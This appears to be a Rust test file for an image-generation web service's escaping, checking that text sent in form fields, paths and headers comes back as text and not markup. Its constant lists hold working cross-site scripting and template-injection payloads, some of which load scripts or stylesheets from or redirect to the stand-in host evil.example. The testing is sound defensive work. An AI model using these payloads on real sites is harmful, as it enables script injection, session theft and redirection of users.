//! What a visitor typed comes back as text and never as markup.

use scraper::ElementRef;

use crate::instance::{Service, Setup};
use crate::page::Page;
use crate::visitor::{HTML, JSON, Visitor};

/// Ways out of the place where a text stands: an element, an attribute, a comment, a script, a raw text element.
const BEFORE: [&str; 16] = [
    "",
    "\"",
    "'",
    ">",
    "\">",
    "'>",
    "</textarea>",
    "</TEXTAREA \n>",
    "</title>",
    "--><!--",
    "]]>",
    "</script>",
    "</style>",
    "</noscript>",
    "\u{2028}",
    "&quot;>",
];

/// What would run, load or send something once it is out.
const ACTS: [&str; 24] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form action=//evil.example><input name=prompt autofocus onfocus=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<template><script>alert(1)</script></template>",
    "<style>@import '//evil.example/x.css'</style>",
    " autofocus onfocus=alert(1) x=",
    " style=background:url(//evil.example) x=",
    "{ $prompt } { -brand } {\"{\"}",
    "${7*7} {{7*7}} <%= 7*7 %> #{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
];

fn payloads() -> impl Iterator<Item = String> {
    BEFORE
        .into_iter()
        .flat_map(|before| ACTS.into_iter().map(move |act| format!("{before}{act}")))
}

/// Everything about a page's elements but what visitors typed: names, and attributes with their values.
fn skeleton(page: &Page) -> Vec<String> {
    page.all("*").into_iter().map(outline).collect()
}

fn outline(element: ElementRef<'_>) -> String {
    let typed = |name: &str| {
        name == "value" && element.attr("type") != Some("radio")
            || name == "src" && element.value().name() == "img"
    };
    // Each page has a challenge of its own, and its sound the name of that.
    let sound = |value: &str| value.starts_with("/challenge/code.wav?challenge=");
    let attributes = element.value().attrs();
    let shown = attributes.map(|(name, value)| {
        if typed(name) || sound(value) {
            name.to_owned()
        } else {
            format!("{name}={value:?}")
        }
    });
    let mut shown: Vec<_> = shown.collect();
    shown.sort();
    format!("{} {}", element.value().name(), shown.join(" "))
}

/// The page a form with this in one field comes back on.
async fn echoed(visitor: &Visitor<'_>, field: &str, text: &str) -> (u16, Page) {
    let lake = if field == "prompt" {
        None
    } else {
        Some(("prompt", "a lake"))
    };
    let fields: Vec<_> = lake.into_iter().chain([(field, text)]).collect();
    let answer = visitor.make(&fields).await;
    (answer.status, answer.page())
}

// safety.md T16, tier: run
#[actix_web::test]
async fn no_text_in_any_field_becomes_an_element_or_an_attribute() {
    let service = Setup::with("[rate]\nper_minute = 1").start().await;
    let visitor = Visitor::new(&service);
    assert!(payloads().count() >= 300);
    for field in [
        "prompt",
        "negative_prompt",
        "model",
        "size",
        "count",
        "seed",
        "steps",
        "guidance",
        "deliver",
        "quality",
        "format",
    ] {
        let (status, plain) = echoed(&visitor, field, "plain").await;
        let expected = skeleton(&plain);
        for payload in payloads() {
            let (again, page) = echoed(&visitor, field, &payload).await;
            assert_eq!(again, status, "{field}: {payload}");
            assert_eq!(skeleton(&page), expected, "{field}: {payload}");
            if field == "prompt" {
                assert_eq!(page.prompt(), Some(payload));
            }
            // Codes are limited for each network: time goes on.
            service.time.advance(std::time::Duration::from_secs(45));
        }
    }
}

// safety.md T16, tier: run
#[actix_web::test]
async fn no_name_of_a_field_and_no_challenge_comes_back_at_all() {
    let service = Service::start().await;
    let visitor = Visitor::new(&service).accepting(HTML);
    for payload in payloads() {
        for fields in [
            vec![("prompt", "a lake"), (payload.as_str(), "1")],
            vec![("prompt", "a lake"), ("challenge", &payload), ("code", &payload)],
        ] {
            let answer = visitor.make(&fields).await;
            assert!(matches!(answer.status, 409 | 422 | 429), "{}", answer.status);
            assert!(
                !answer.text().contains("evil.example") && !answer.text().contains("alert("),
                "{payload}"
            );
            service.time.advance(std::time::Duration::from_secs(45));
        }
    }
}

// safety.md T16, tier: run
#[actix_web::test]
async fn the_page_with_the_picture_shows_the_words_as_words() {
    let service = Setup::with(
        "[challenge]\nkinds = []\n[rate]\nper_minute = 100000\nper_hour = 100000\nper_day = 100000",
    )
    .start()
    .await;
    let visitor = Visitor::new(&service);
    let page = visitor.make(&[("prompt", "plain")]).await.page();
    let expected = skeleton(&page);
    for payload in payloads() {
        let page = visitor.make(&[("prompt", &payload)]).await.page();
        assert_eq!(skeleton(&page), expected, "{payload}");
        assert_eq!(page.prompt(), Some(payload));
    }
}

// safety.md T16, tier: run
#[actix_web::test]
async fn nothing_of_an_address_or_a_header_comes_back() {
    let service = Service::start().await;
    for payload in payloads() {
        let escaped: String = payload.bytes().map(|byte| format!("%{byte:02x}")).collect();
        let header: String = payload.chars().filter(char::is_ascii_graphic).collect();
        for accept in [HTML, JSON] {
            let visitor = Visitor::new(&service)
                .accepting(accept)
                .sending("x-payload", &header);
            let visitor = visitor.sending("referer", &header).sending("user-agent", &header);
            for path in [
                format!("/{escaped}"),
                format!("/static/{escaped}/x.js"),
                format!("/?{escaped}={escaped}"),
            ] {
                let answer = visitor.get(&path).await;
                assert!(matches!(answer.status, 200 | 404));
                assert!(
                    !answer.text().contains("evil.example") && !answer.text().contains("alert("),
                    "{payload}"
                );
            }
        }
    }
}

// safety.md T16, tier: run
#[actix_web::test]
async fn a_problem_document_repeats_nothing() {
    let service = Setup::with("[rate]\nper_minute = 1").start().await;
    let visitor = Visitor::new(&service).accepting(JSON);
    for field in [
        "prompt",
        "model",
        "size",
        "count",
        "seed",
        "deliver",
        "format",
        "unheard-of",
    ] {
        for payload in payloads() {
            let lake = if field == "prompt" {
                ("seed", "x")
            } else {
                ("prompt", "a lake")
            };
            let answer = visitor.make(&[lake, (field, &payload)]).await;
            assert_eq!(answer.status, 422);
            assert!(
                !answer.text().contains("alert(") && !answer.text().contains("evil"),
                "{payload}"
            );
            assert!(answer.text().bytes().all(|byte| byte != b'<'), "nor any markup");
        }
    }
}

// safety.md T16, tier: run
#[actix_web::test]
async fn no_page_runs_or_styles_anything_inline() {
    let service = Service::start().await;
    let visitor = Visitor::new(&service);
    for path in [
        "/", "/gallery", "/privacy", "/cookies", "/terms", "/about", "/contact", "/nothing",
    ] {
        let page = visitor.get(path).await.page();
        let inline = page.all("script:not([src]), style, [style], base, iframe, object, embed");
        assert_eq!(inline.len(), 0, "{path}");
        for element in page.all("*") {
            assert!(
                element.value().attrs().all(|(name, _)| !name.starts_with("on")),
                "{path}"
            );
            let foreign = ["src", "action", "data"]
                .into_iter()
                .filter_map(|name| element.attr(name));
            assert!(
                foreign
                    .into_iter()
                    .all(|url| url.starts_with('/') || url.starts_with("data:")),
                "{path}"
            );
        }
    }
}
